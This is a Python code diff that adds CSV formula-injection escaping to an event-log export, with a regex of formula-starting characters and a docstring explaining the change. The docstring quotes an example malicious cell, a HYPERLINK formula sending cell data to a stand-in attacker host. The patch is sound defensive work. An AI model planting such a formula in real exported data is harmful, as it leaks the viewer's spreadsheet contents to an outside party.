@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import json
+import re
 from collections.abc import Iterable, Iterator
 from typing import Any
 
@@ -142,6 +143,24 @@ class _Echo:
         return value
 
 
+# A spreadsheet reads a cell that starts with one of these (after any blanks it
+# strips) as a formula; OWASP's list, plus the quote itself so that unquoting is exact.
+_FORMULA_START = re.compile(r"\s*[=+\-@\t\r]|'")
+
+
+def csv_cell(value: str) -> str:
+    """The value as a spreadsheet shows it, never run as a formula.
+
+    A runtime chooses its invocations' subjects, and a subject such as
+    `=HYPERLINK("https://evil.example/?"&A1)` would run in the reviewer's spreadsheet.
+    Such a cell gets a leading `'`, which spreadsheets hide, and so does a value that
+    already starts with one: dropping one leading `'` from every cell that has one
+    gives back the recorded values. (defusedcsv also rewrites `|` inside the cell,
+    which could not be undone.) The JSONL export is always verbatim.
+    """
+    return "'" + value if _FORMULA_START.match(value) else value
+
+
 def csv_lines(rows: Iterable[dict[str, Any]]) -> Iterator[str]:
     """One line per event; a cell holds text, so flags are space-separated and the
     event's data is JSON with sorted keys."""
@@ -149,7 +168,8 @@ def csv_lines(rows: Iterable[dict[str, Any]]) -> Iterator[str]:
     yield writer.writeheader()  # type: ignore[func-returns-value]
     for row in rows:
         flat = {**row, "flags": " ".join(row["flags"]), "data": _sorted_json(row["data"])}
-        yield writer.writerow(flat)  # type: ignore[misc]
+        cells = {k: csv_cell(v) if isinstance(v, str) else v for k, v in flat.items()}
+        yield writer.writerow(cells)  # type: ignore[misc]
 
 
 def jsonl_lines(rows: Iterable[dict[str, Any]]) -> Iterator[str]:
